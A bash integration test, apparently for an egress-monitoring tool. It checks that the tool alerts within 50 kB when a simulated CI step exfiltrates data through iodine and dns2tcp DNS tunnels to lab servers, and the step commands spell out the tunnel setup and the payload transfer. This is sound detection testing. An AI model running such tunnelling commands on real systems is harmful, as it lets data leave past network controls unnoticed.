#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
#
# tunnel.sh: a step of a CI job carries data out in the names that it asks its resolver for, by iodine and
# by dns2tcp, and by iodine in what is no DNS at its server's port. The shipped policy must tell before 50 kB
# were sent.
#
#	tests/live/tunnel.sh [BUILD]

# shellcheck source-path=SCRIPTDIR source=lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source-path=SCRIPTDIR source=where/servers.sh
. "$(dirname "$0")/where/servers.sh"

MOST=50000	# bytes sent when it must have been told
PAYLOAD=400000	# bytes that are to go through
IODINED=198.51.100.6
DNS2TCPD=198.51.100.7

# The shipped rules and roles, with this lab's resolvers.
config() {
	lab_config < <(
		sed -n '/^endpoints:/,/^sinks:/p' "$(dirname "$0")/../../config/outflow.yaml"
		cat <<-END
			  - {type: file, path: $LAB_ALERTS, format: json}
			limits: {grace: 1h}
			networks:
			  resolvers: [$DNSMASQ, $UNBOUND]
		END
	)
}

servers() {
	in_far ip addr add $IODINED/24 dev wire && in_far ip addr add $DNS2TCPD/24 dev wire || exit 1
	where_zone </dev/null
	where_chain_begin
	echo "server=/iodine.example/$IODINED" >>"$LAB_DIR/records.dnsmasq"
	cat >"$LAB_DIR/zones.unbound" <<-END
		  local-zone: "dns2tcp.example." transparent
		stub-zone:
		  name: "dns2tcp.example"
		  stub-addr: $DNS2TCPD
	END
	where_dnsmasq
	where_unbound
	far_start --tcp 7000
}

# As GitHub's runner starts a step.
step() { # COMMAND
	# shellcheck disable=SC2016
	where_run "$SENDER_NET" dnsmasq env GITHUB_ACTIONS=true GITHUB_REPOSITORY=o/r GITHUB_WORKFLOW=w GITHUB_JOB=j \
		GITHUB_RUN_ID=1 GITHUB_RUN_ATTEMPT=1 RUNNER_NAME=r1 GITHUB_ACTION="$1-$$" "$LAB_DIR/bin/Runner.Worker" -c \
		'bash -c "$1"; true' Runner.Worker "$2" >"$LAB_DIR/$1.out" 2>&1 </dev/null &
	LAB_PIDS+=($!)
}

alert_of() { # STEP [RULE]
	jq -nc --arg step "$1-$$" --arg rule "${2:-dns-tunnel}" \
		'first(inputs | select(.type == "alert" and .rule == $rule and .ci.step == $step))' "$LAB_ALERTS"
}

# shellcheck disable=SC2317 # wait_for calls it
alerted() { # STEP [RULE]
	[ -n "$(alert_of "$@")" ]
}

# What all of the step has sent, by the ledger.
sent_by() { # STEP
	# shellcheck disable=SC2016
	flows_sum '.ci.step == $step and .endpoint.port == 53' --arg step "$1-$$"
}

check() { # STEP SUFFIX PROGRAM
	local a now

	wait_for 60 alerted "$1"
	now=$(sent_by "$1")
	a=$(alert_of "$1")
	if [ -z "$a" ]; then
		not_ok "$1: alert dns-tunnel" "none after $(sent_by "$1") bytes; $(tail -n 1 "$LAB_DIR/$1.out")"
		return
	fi
	echo "# $1: told after $(jq .bytes.sent <<<"$a") bytes sent to the resolver, of them $(jq .dns.name_bytes <<<"$a") in $(jq .dns.names <<<"$a") names; $now when this test had read it"
	is "$1: told before $MOST bytes were sent" "$(jq ".bytes.sent > 0 and .bytes.sent < $MOST" <<<"$a")" true
	is "$1: below which domain" "$(jq -r .dns.suffix <<<"$a")" "$2"
	is "$1: the job" "$(jq -r '.ci.repository + " " + .ci.job' <<<"$a")" "o/r j"
	is "$1: who" "$(jq -r .process.name <<<"$a")" "$3"
	is "$1: of the resolver that is configured" "$(jq -r '"\(.dns.foreign) \(.endpoint.class)"' <<<"$a")" "false resolver"
}

iodine_case() {
	if [ ! -c /dev/net/tun ]; then
		skip iodine "there is no /dev/net/tun"
		return
	fi
	where_start iodined "$FAR_NET" udp "53 and src $IODINED" iodined -f -c -P secret -l $IODINED 10.99.0.1/24 iodine.example
	step iodine "iodine -f -r -P secret -d dns0 $DNSMASQ iodine.example & until ip -o addr show dns0 | grep -q 10.99.0; do sleep 0.1; done; $B/lab/send --way tcp-write --to 10.99.0.1:7000 --bytes $PAYLOAD; kill \$!"
	check iodine iodine.example iodine
}

# Its default: names only until it has found its server, then datagrams straight there.
iodine_raw_case() {
	local a

	[ -c /dev/net/tun ] || return
	step iodine-raw "iodine -f -P secret -d dns1 $DNSMASQ iodine.example & until ip -o addr show dns1 | grep -q 10.99.0; do sleep 0.1; done; $B/lab/send --way tcp-write --to 10.99.0.1:7000 --bytes $PAYLOAD; sleep 20; kill \$!"
	wait_for 60 alerted iodine-raw dns-not-dns
	a=$(alert_of iodine-raw dns-not-dns)
	if [ -z "$a" ]; then
		not_ok "iodine-raw: alert dns-not-dns" "none after $(sent_by iodine-raw) bytes; $(tail -n 1 "$LAB_DIR/iodine-raw.out")"
		return
	fi
	echo "# iodine-raw: told after $(jq .bytes.sent <<<"$a") bytes sent to its server, as $(jq .dns.malformed <<<"$a") messages; $(sent_by iodine-raw) when this test had read it"
	is "iodine-raw: told before $MOST bytes were sent" "$(jq ".bytes.sent > 0 and .bytes.sent < $MOST" <<<"$a")" true
	is "iodine-raw: whose server" "$(jq -r '"\(.dns.foreign) \(.endpoint.ip) \(.endpoint.port)"' <<<"$a")" "true $IODINED 53"
	is "iodine-raw: the job" "$(jq -r '.ci.repository + " " + .ci.job' <<<"$a")" "o/r j"
	is "iodine-raw: who" "$(jq -r .process.name <<<"$a")" iodine
	is "iodine-raw: nothing else is called no DNS" "$(jq -rs 'map(select(.rule == "dns-not-dns") | .ci.step) | unique | join(" ")' "$LAB_ALERTS")" "iodine-raw-$$"
}

dns2tcp_case() {
	cat >"$LAB_DIR/dns2tcpd.conf" <<-END
		listen = $DNS2TCPD
		port = 53
		user = root
		chroot = $LAB_DIR
		domain = dns2tcp.example
		resources = sink:127.0.0.1:7000
	END
	where_start dns2tcpd "$FAR_NET" udp "53 and src $DNS2TCPD" dns2tcpd -F -f "$LAB_DIR/dns2tcpd.conf"
	step dns2tcp "dns2tcpc -z dns2tcp.example -r sink -l 7100 $UNBOUND & until ss -Hlnt sport = :7100 | grep -q .; do sleep 0.1; done; $B/lab/send --way tcp-write --to 127.0.0.1:7100 --bytes $PAYLOAD; sleep 60; kill \$!"
	check dns2tcp dns2tcp.example dns2tcpc
}

lab_begin "${1:-build}"
need_built lab/send lab/recv
may_lack dnsmasq unbound iodine iodined dns2tcpc dns2tcpd ss
where_net
cp "$BASH" "$LAB_DIR/bin/Runner.Worker"
config
start_outflowd "$LAB_CONFIG"
servers
iodine_case
dns2tcp_case
iodine_raw_case
stop_outflowd
lab_end
